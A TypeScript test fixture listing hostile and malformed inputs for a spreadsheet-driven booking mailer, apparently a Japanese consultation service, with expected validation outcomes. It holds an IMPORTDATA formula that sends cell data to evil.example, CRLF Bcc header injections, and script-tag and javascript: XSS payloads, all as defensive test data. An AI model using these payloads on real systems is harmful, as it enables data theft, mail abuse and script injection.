// The hostile and broken input corpus (issue 8), as data. Each case is what a person could type,
// paste or leave behind, with the outcome the script must reach. Values go in through the
// emulator's person (typed like the Sheets UI: "12345" becomes a number, "2026/12/2" a date,
// "TRUE" a boolean, "'=…" literal text, "=…" a formula of the person's own).
import type { BookingField } from '../../src/core/schema';

export type Typed = string | number | boolean | Date;

/**
 * error: the row gets an `エラー:` line naming `names` (a header), and no mail.
 * sendable: no `エラー:`; the send menu mails it exactly once, headers intact.
 * notSent: no mail (a status or a stamp that stops it), whatever the check says.
 */
export type RowOutcome =
  { kind: 'error'; names?: string } | { kind: 'sendable'; warns?: string } | { kind: 'notSent' };

export interface RowCase {
  title: string;
  row: Partial<Record<BookingField | '職員メモ', Typed>>;
  outcome: RowOutcome;
}

const error = (names?: string): RowOutcome => ({ kind: 'error', ...(names ? { names } : {}) });
const sendable = (warns?: string): RowOutcome => ({
  kind: 'sendable',
  ...(warns ? { warns } : {}),
});
const notSent: RowOutcome = { kind: 'notSent' };

const LONG = 'あ'.repeat(10_000);
const CONTROL = 'A\u0000B\u0007C\u001bD\u007fE';
const ZW = '\u200b\u200c\u200d\u2060\ufeff';
const BIDI = '\u202e\u2066\u202a';
const INJECT = 'x@example.jp\r\nBcc: everyone@evil.example';
const IMPORT = `'=IMPORTDATA("https://evil.example/steal?x="&A2)`;
const HYPERLINK = `'=HYPERLINK("https://evil.example","click")`;
const SCRIPT = '<script>alert("x")</script>';
const IMG = '<img src=x onerror=alert(1)>';

/** Text fields take any of these; what happens depends on the field. */
const TEXTUAL: { label: string; value: Typed }[] = [
  { label: 'control characters', value: CONTROL },
  { label: 'CR/LF', value: '見本\r\n一郎' },
  { label: 'a header injection', value: `見本\r\nBcc: everyone@evil.example\r\nSubject: x` },
  { label: 'zero-width characters', value: `見${ZW}本 一郎` },
  { label: 'bidi overrides', value: `${BIDI}見本 一郎` },
  { label: 'emoji and ZWJ sequences', value: '見本 一郎😀👨‍👩‍👧‍👦' },
  { label: 'a lone surrogate', value: '見本\ud800一郎' },
  { label: '10,000 characters', value: LONG },
  { label: 'a number', value: '12345' },
  { label: 'a boolean', value: 'TRUE' },
  { label: 'a Date', value: new Date('2026-12-02T00:00:00+09:00') },
  { label: '=IMPORTDATA text', value: IMPORT },
  { label: '=HYPERLINK text', value: HYPERLINK },
  { label: '+ text', value: "'+81 90 0000 0000" },
  { label: '- text', value: "'-1+2" },
  { label: '@ text', value: "'@SUM(A1)" },
  { label: 'a script tag', value: SCRIPT },
  { label: 'an img onerror', value: IMG },
  { label: 'HTML entities', value: '&lt;b&gt; &amp; &quot;' },
];

function textualCases(
  field: BookingField | '職員メモ',
  header: string,
  outcomeOf: (label: string) => RowOutcome,
): RowCase[] {
  return TEXTUAL.map(({ label, value }) => ({
    title: `${header}: ${label}`,
    row: { [field]: value },
    outcome: outcomeOf(label),
  }));
}

/** Labels whose value cannot be an address, a number or a URL: always an error there. */
export const ROW_CASES: RowCase[] = [
  // 氏名: free text, shown back in the mail. Anything printable goes (a 注意 if it differs from
  // 対象者); the mail and its headers must stay intact.
  ...textualCases('name', '氏名', () => sendable()),
  { title: '氏名: empty', row: { name: '' }, outcome: error('氏名') },
  { title: '氏名: only spaces', row: { name: '\u3000 \u3000' }, outcome: error('氏名') },
  // A formula of the person's own reads as its value (#ERROR! in the emulator): a 注意 only.
  {
    // The cell shows a formula result (an error value here), never a name to greet anyone by.
    title: '氏名: a real formula typed by staff',
    row: { name: '=1+1' },
    outcome: error('氏名'),
  },
  { title: '氏名: half-width kana', row: { name: 'ﾐﾎﾝ ｲﾁﾛｳ' }, outcome: sendable() },

  // 備考 and a column staff added: never read, never touched.
  ...textualCases('note', '備考', () => sendable()),
  ...textualCases('職員メモ', '職員メモ', () => sendable()),
  { title: '備考: a real formula typed by staff', row: { note: '=1+1' }, outcome: sendable() },

  // 担当者: compared, never mailed as a header.
  { title: '担当者: 10,000 characters', row: { officer: LONG }, outcome: sendable() },
  { title: '担当者: =IMPORTDATA text', row: { officer: IMPORT }, outcome: sendable() },
  { title: '担当者: a script tag', row: { officer: SCRIPT }, outcome: sendable() },
  { title: '担当者: CR/LF', row: { officer: '担当\r\n甲' }, outcome: sendable() },

  // 求職番号
  ...textualCases('seekerNo', '求職番号', () => error('求職番号')),
  {
    title: '求職番号: full-width digits and a long dash',
    row: { seekerNo: '３３０１０ー０００００００１' },
    outcome: sendable(),
  },
  {
    title: '求職番号: kanji 一 as the dash',
    row: { seekerNo: '33010一00000001' },
    outcome: sendable(),
  },
  {
    title: '求職番号: zero-width space inside',
    row: { seekerNo: '33010-\u200b00000001' },
    outcome: sendable(),
  },
  {
    title: '求職番号: no hyphen (typed number)',
    row: { seekerNo: '3301000000001' },
    outcome: error('求職番号'),
  },
  {
    title: '求職番号: nine digits after the hyphen',
    row: { seekerNo: "'33010-000000001" },
    outcome: error('求職番号'),
  },
  { title: '求職番号: not on the roster', row: { seekerNo: "'33010-99999999" }, outcome: error() },
  { title: '求職番号: newline inside', row: { seekerNo: '33010-\n00000001' }, outcome: sendable() },
  { title: '求職番号: empty', row: { seekerNo: '' }, outcome: error('求職番号') },

  // メールアドレス: one plain address or an error.
  ...textualCases('email', 'メールアドレス', () => error('メールアドレス')),
  {
    title: 'メールアドレス: CRLF + Bcc header',
    row: { email: INJECT },
    outcome: error('メールアドレス'),
  },
  {
    title: 'メールアドレス: %0d%0a encoded',
    row: { email: 'x%0d%0aBcc:y@example.jp' },
    outcome: error('メールアドレス'),
  },
  {
    title: 'メールアドレス: two, comma',
    row: { email: 'a@example.jp,b@example.jp' },
    outcome: error('メールアドレス'),
  },
  {
    title: 'メールアドレス: two, semicolon',
    row: { email: 'a@example.jp;b@example.jp' },
    outcome: error('メールアドレス'),
  },
  {
    title: 'メールアドレス: display name form',
    row: { email: '見本 <a@example.jp>' },
    outcome: error('メールアドレス'),
  },
  {
    title: 'メールアドレス: angle brackets',
    row: { email: '<a@example.jp>' },
    outcome: error('メールアドレス'),
  },
  {
    title: 'メールアドレス: two @',
    row: { email: 'a@b@example.jp' },
    outcome: error('メールアドレス'),
  },
  {
    title: 'メールアドレス: no domain dot',
    row: { email: 'a@localhost' },
    outcome: error('メールアドレス'),
  },
  {
    title: 'メールアドレス: mailto:',
    row: { email: 'mailto:a@example.jp' },
    outcome: error('メールアドレス'),
  },
  {
    title: 'メールアドレス: trailing dot in local part',
    row: { email: 'ichiro.@example.jp' },
    outcome: error('メールアドレス'),
  },
  {
    title: 'メールアドレス: tab',
    row: { email: 'a@example.jp\tb' },
    outcome: error('メールアドレス'),
  },
  {
    title: 'メールアドレス: full-width (NFKC makes it plain)',
    row: { email: 'ｉｃｈｉｒｏ＠ｅｘａｍｐｌｅ．ｊｐ' },
    outcome: sendable(),
  },
  {
    title: 'メールアドレス: upper-case domain',
    row: { email: 'ichiro@EXAMPLE.JP' },
    outcome: sendable(),
  },
  {
    title: 'メールアドレス: surrounding spaces',
    row: { email: '  ichiro@example.jp  ' },
    outcome: sendable(),
  },
  {
    title: 'メールアドレス: carrier domain warns',
    row: { email: 'ichiro@docomo.ne.jp' },
    outcome: sendable('メールアドレス'),
  },
  {
    title: 'メールアドレス: typo domain is an error (issue 16 §4)',
    row: { email: 'ichiro@gmail.con' },
    outcome: error('メールアドレス'),
  },
  {
    title: 'メールアドレス: 300 characters',
    row: { email: `${'a'.repeat(290)}@example.jp` },
    outcome: error('メールアドレス'),
  },

  // 相談日
  {
    title: '相談日: 1899-12-30 (a time-only cell)',
    row: { date: new Date('1899-12-30T10:00:00+09:00') },
    outcome: error('相談日'),
  },
  { title: '相談日: 1899/12/31 typed', row: { date: '1899/12/31' }, outcome: error('相談日') },
  { title: '相談日: 2100/01/01 (年末年始)', row: { date: '2100/01/01' }, outcome: error('相談日') },
  {
    title: '相談日: 2100/01/04 far future',
    row: { date: '2100/01/04' },
    outcome: sendable('相談日'),
  },
  {
    title: '相談日: 2100-01-05 as a Date',
    row: { date: new Date('2100-01-05T00:00:00+09:00') },
    outcome: sendable('相談日'),
  },
  { title: '相談日: text 明日', row: { date: '明日' }, outcome: error('相談日') },
  { title: '相談日: 2026/02/30 impossible', row: { date: '2026/02/30' }, outcome: error('相談日') },
  { title: '相談日: a number', row: { date: 12345 }, outcome: error('相談日') },
  { title: '相談日: a boolean', row: { date: true }, outcome: error('相談日') },
  { title: '相談日: =IMPORTDATA text', row: { date: IMPORT }, outcome: error('相談日') },
  { title: '相談日: CR/LF', row: { date: "'2027/03/11\r\n", start: '10:00' }, outcome: sendable() },
  { title: '相談日: 10,000 characters', row: { date: LONG }, outcome: error('相談日') },
  { title: '相談日: a Saturday', row: { date: '2026/12/05' }, outcome: error('相談日') },
  { title: '相談日: a Sunday', row: { date: '2026/12/06' }, outcome: error('相談日') },
  { title: '相談日: 12/29 (年末年始)', row: { date: '2026/12/29' }, outcome: error('相談日') },
  { title: '相談日: a holiday (元日)', row: { date: '2027/01/01' }, outcome: error('相談日') },
  { title: '相談日: today', row: { date: '2026/12/01' }, outcome: error('相談日') },
  { title: '相談日: yesterday', row: { date: '2026/11/30' }, outcome: error('相談日') },
  {
    title: '相談日: 和暦 text',
    row: { date: '令和9年3月9日', start: '15:00' },
    outcome: sendable(),
  },
  { title: '相談日: R9.3.9', row: { date: "'R9.3.9", start: '14:00' }, outcome: sendable() },
  {
    title: '相談日: full-width digits',
    row: { date: '２０２７／０３／１０', start: '15:00' },
    outcome: sendable(),
  },
  {
    title: '相談日: weekday that does not match',
    row: { date: "'2027/03/10(月)", start: '14:00' },
    outcome: error('相談日'),
  },
  { title: '相談日: empty', row: { date: '' }, outcome: error('相談日') },

  // 開始時刻
  { title: '開始時刻: 10:30 not a slot', row: { start: '10:30' }, outcome: error('開始時刻') },
  { title: '開始時刻: 25:00', row: { start: "'25:00" }, outcome: error('開始時刻') },
  { title: '開始時刻: the number 10 (read as 10時)', row: { start: 10 }, outcome: sendable() },
  { title: '開始時刻: a boolean', row: { start: true }, outcome: error('開始時刻') },
  { title: '開始時刻: =TIME text', row: { start: "'=TIME(10,0,0)" }, outcome: error('開始時刻') },
  { title: '開始時刻: emoji', row: { start: '🕙' }, outcome: error('開始時刻') },
  { title: '開始時刻: 10,000 characters', row: { start: LONG }, outcome: error('開始時刻') },
  { title: '開始時刻: CR/LF', row: { start: '10:00\r\n11:00' }, outcome: error('開始時刻') },
  { title: '開始時刻: 午後2時', row: { start: '午後2時' }, outcome: sendable() },
  { title: '開始時刻: full-width １１時', row: { start: '１１時' }, outcome: sendable() },
  { title: '開始時刻: empty', row: { start: '' }, outcome: error('開始時刻') },

  // 窓口
  { title: '窓口: unknown', row: { office: '岡山' }, outcome: error('窓口') },
  { title: '窓口: a number', row: { office: 1 }, outcome: error('窓口') },
  { title: '窓口: =IMPORTDATA text', row: { office: IMPORT }, outcome: error('窓口') },
  { title: '窓口: a script tag', row: { office: SCRIPT }, outcome: error('窓口') },
  { title: '窓口: bidi override', row: { office: `${BIDI}倉敷わかもの` }, outcome: error('窓口') },
  { title: '窓口: CR/LF inside', row: { office: '倉敷\r\nわかもの' }, outcome: error('窓口') },
  { title: '窓口: empty', row: { office: '' }, outcome: error('窓口') },

  // 会議URL
  {
    title: '会議URL: http',
    row: { meetingUrl: 'http://teleoffice.example.jp/m' },
    outcome: error('会議URL'),
  },
  {
    title: '会議URL: javascript:',
    row: { meetingUrl: 'javascript:alert(1)' },
    outcome: error('会議URL'),
  },
  {
    title: '会議URL: data:',
    row: { meetingUrl: 'data:text/html,<script>alert(1)</script>' },
    outcome: error('会議URL'),
  },
  {
    title: '会議URL: two URLs',
    row: { meetingUrl: 'https://a.example.jp https://b.example.jp' },
    outcome: error('会議URL'),
  },
  { title: '会議URL: =HYPERLINK text', row: { meetingUrl: HYPERLINK }, outcome: error('会議URL') },
  {
    title: '会議URL: CR/LF',
    row: { meetingUrl: 'https://teleoffice.example.jp/m\r\nBcc: x' },
    outcome: error('会議URL'),
  },
  { title: '会議URL: a number', row: { meetingUrl: 42 }, outcome: error('会議URL') },
  { title: '会議URL: empty', row: { meetingUrl: '' }, outcome: error('会議URL') },
  {
    // The check lets it through; the mail renderer refuses it (see the report to the lead).
    title: '会議URL: quotes and a tag after the path',
    row: { meetingUrl: 'https://teleoffice.example.jp/m?"><script>alert(1)</script>' },
    // The check uses the invitation's own URL rule, so this is caught before any send.
    outcome: error('会議URL'),
  },
  {
    title: '会議URL: 2,000 characters',
    row: { meetingUrl: `https://teleoffice.example.jp/${'a'.repeat(2000)}` },
    outcome: sendable(),
  },

  // 状態, 参加, 受付方法, 招待メール送信日時, 予約ID
  { title: '状態: unknown word', row: { status: '確定済み' }, outcome: error('状態') },
  { title: '状態: a number', row: { status: 3 }, outcome: error('状態') },
  { title: '状態: キャンセル', row: { status: 'キャンセル' }, outcome: notSent },
  { title: '状態: 確定 typed by staff', row: { status: '確定' }, outcome: notSent },
  { title: '状態: 無断キャンセル', row: { status: '無断キャンセル' }, outcome: notSent },
  { title: '参加: text はい', row: { joined: 'はい' }, outcome: sendable() },
  { title: '参加: =IMPORTDATA text', row: { joined: IMPORT }, outcome: sendable() },
  { title: '受付方法: unknown', row: { channel: 'FAX' }, outcome: sendable() },
  { title: '受付方法: script tag', row: { channel: SCRIPT }, outcome: sendable() },
  {
    title: '招待メール送信日時: 送信中 typed',
    row: { invitedAt: '送信中 2026/11/30 10:00' },
    outcome: notSent,
  },
  {
    title: '招待メール送信日時: free text',
    row: { invitedAt: '電話で案内済み' },
    outcome: notSent,
  },
  // Not the script's own form (issue 13, finding 5): an error saying to clear the cell, never sent.
  {
    title: '予約ID: =IMPORTDATA text typed by staff',
    row: { id: IMPORT },
    outcome: error('予約ID'),
  },
  { title: '予約ID: script tag typed by staff', row: { id: SCRIPT }, outcome: error('予約ID') },
  { title: '予約ID: CR/LF typed by staff', row: { id: 'R-1\r\nBcc: x' }, outcome: error('予約ID') },
];

/** The same 予約ID on two rows (a copied row): neither is sent, both are named. */
export const DUPLICATE_ID = 'R-COPIED-1';

/** A 設定 value as staff could leave it; `mentions` is what the check dialog must say. */
export interface SettingCase {
  title: string;
  key: string;
  /** undefined: the row is deleted. */
  value: Typed | undefined;
  mentions: string;
}

export const SETTING_CASES: SettingCase[] = [
  { title: '開始時刻 missing', key: '開始時刻', value: undefined, mentions: '開始時刻' },
  { title: '開始時刻 garbage', key: '開始時刻', value: '10時,abc,=1', mentions: '開始時刻' },
  { title: '開始時刻 empty', key: '開始時刻', value: '', mentions: '開始時刻' },
  { title: '相談時間 not a number', key: '相談時間（分）', value: 'abc', mentions: '相談時間' },
  { title: '相談時間 negative', key: '相談時間（分）', value: '-30', mentions: '相談時間' },
  { title: '各枠の定員 zero', key: '各枠の定員', value: '0', mentions: '各枠の定員' },
  { title: '各枠の定員 a boolean', key: '各枠の定員', value: 'TRUE', mentions: '各枠の定員' },
  { title: '窓口 empty', key: '窓口', value: '', mentions: '窓口' },
  { title: '窓口 missing', key: '窓口', value: undefined, mentions: '窓口' },
  {
    title: '電話番号（倉敷中央） empty',
    key: '電話番号（倉敷中央）',
    value: '',
    mentions: '電話番号',
  },
  {
    title: '差出人名 with a header injection',
    key: '差出人名（倉敷わかもの）',
    value: '倉敷\r\nBcc: everyone@evil.example',
    // Made one line when sent, not reported (see the report to the lead).
    mentions: '',
  },
  {
    title: '返信先メール with a header injection',
    key: '返信先メール',
    value: 'reply@example.jp\r\nBcc: everyone@evil.example',
    mentions: '返信先メール',
  },
  {
    title: '返信先メール not an address',
    key: '返信先メール',
    value: '窓口まで',
    mentions: '返信先メール',
  },
  {
    title: '返信先メール two addresses',
    key: '返信先メール',
    value: 'a@example.jp,b@example.jp',
    mentions: '返信先メール',
  },
  {
    title: '通知先メール with a script tag',
    key: '通知先メール',
    value: '<script>@x',
    mentions: '通知先メール',
  },
  {
    title: '無断キャンセル判定 text',
    key: '無断キャンセル判定（分）',
    value: '十分',
    mentions: '無断キャンセル判定',
  },
  {
    title: '利用停止の目安 a Date',
    key: '利用停止の目安（無断キャンセル回数）',
    value: new Date('2026-12-01T00:00:00+09:00'),
    mentions: '利用停止の目安',
  },
  {
    title: '招待メール自動送信 maybe',
    key: '招待メール自動送信',
    value: 'たぶん',
    mentions: '招待メール自動送信',
  },
  {
    title: '送信待ち時間 negative',
    key: '送信待ち時間（分）',
    value: '-5',
    mentions: '送信待ち時間',
  },
  { title: '予約締切 garbage', key: '予約締切', value: 'いつでも', mentions: '予約締切' },
  { title: '保管までの月数 zero', key: '保管までの月数', value: '0', mentions: '保管までの月数' },
  {
    title: 'メール件名 unknown placeholder',
    key: 'メール件名',
    value: '{不明な項目} のご案内',
    mentions: 'メール件名',
  },
  {
    title: 'メール件名 with CR/LF',
    key: 'メール件名',
    value: 'ご案内\r\nBcc: everyone@evil.example',
    mentions: '',
  },
  {
    title: 'メール件名 10,000 characters',
    key: 'メール件名',
    value: '件'.repeat(10_000),
    mentions: '',
  },
  { title: 'メール本文 empty', key: 'メール本文', value: '', mentions: 'メール本文' },
  {
    title: 'メール本文 with a script tag',
    key: 'メール本文',
    value: '<script>alert(1)</script>{氏名}様',
    mentions: '',
  },
  { title: '規約版 =IMPORTDATA text', key: '規約版', value: IMPORT, mentions: '' },
];

/** Broken sheets: `mentions` is what the check dialog must say. */
export interface SheetCase {
  title: string;
  break:
    | 'duplicateHeader'
    | 'deleteHeader'
    | 'renameHeader'
    | 'emptySheet'
    | 'deleteSheet'
    | 'clearHeaderRow'
    | 'rosterDuplicates'
    | 'rosterHostile'
    | 'rosterNoKeyColumn'
    | 'settingsDuplicateKey'
    | 'settingsHeaderGone'
    | 'logHeaderGone';
  sheet: string;
  header?: string;
  mentions: string;
}

export const SHEET_CASES: SheetCase[] = [
  {
    title: '予約: 氏名 header twice',
    break: 'duplicateHeader',
    sheet: '予約',
    header: '氏名',
    mentions: '',
  },
  // Said on every row (氏名 is missing), not in the dialog.
  {
    title: '予約: 氏名 header deleted',
    break: 'deleteHeader',
    sheet: '予約',
    header: '氏名',
    mentions: '',
  },
  {
    title: '予約: 予約ID header deleted',
    break: 'deleteHeader',
    sheet: '予約',
    header: '予約ID',
    mentions: '予約ID',
  },
  {
    title: '予約: 状態 header renamed',
    break: 'renameHeader',
    sheet: '予約',
    header: '状態',
    mentions: '状態',
  },
  {
    title: '予約: header row cleared',
    break: 'clearHeaderRow',
    sheet: '予約',
    mentions: '初期設定',
  },
  { title: '予約: empty sheet', break: 'emptySheet', sheet: '予約', mentions: '初期設定' },
  // Emptied to the last cell: a one-call read of the whole sheet finds nothing at all to read.
  { title: '対象者: empty sheet', break: 'emptySheet', sheet: '対象者', mentions: '' },
  { title: '設定: empty sheet', break: 'emptySheet', sheet: '設定', mentions: '' },
  { title: '休業日: empty sheet', break: 'emptySheet', sheet: '休業日', mentions: '' },
  { title: '操作ログ: empty sheet', break: 'emptySheet', sheet: '操作ログ', mentions: '' },
  { title: '予約: sheet deleted', break: 'deleteSheet', sheet: '予約', mentions: '初期設定' },
  { title: '対象者: sheet deleted', break: 'deleteSheet', sheet: '対象者', mentions: '' },
  {
    title: '対象者: 求職番号 column deleted',
    break: 'rosterNoKeyColumn',
    sheet: '対象者',
    mentions: '',
  },
  {
    title: '対象者: the same person twice, differently',
    break: 'rosterDuplicates',
    sheet: '対象者',
    mentions: '対象者',
  },
  { title: '対象者: hostile cells', break: 'rosterHostile', sheet: '対象者', mentions: '' },
  {
    title: '設定: a key twice',
    break: 'settingsDuplicateKey',
    sheet: '設定',
    header: '規約版',
    mentions: '規約版',
  },
  { title: '設定: header row gone', break: 'settingsHeaderGone', sheet: '設定', mentions: '' },
  { title: '設定: sheet deleted', break: 'deleteSheet', sheet: '設定', mentions: '' },
  { title: '休業日: sheet deleted', break: 'deleteSheet', sheet: '休業日', mentions: '' },
  { title: '操作ログ: sheet deleted', break: 'deleteSheet', sheet: '操作ログ', mentions: '' },
  { title: '操作ログ: header row gone', break: 'logHeaderGone', sheet: '操作ログ', mentions: '' },
  { title: '予約_保管: sheet deleted', break: 'deleteSheet', sheet: '予約_保管', mentions: '' },
];
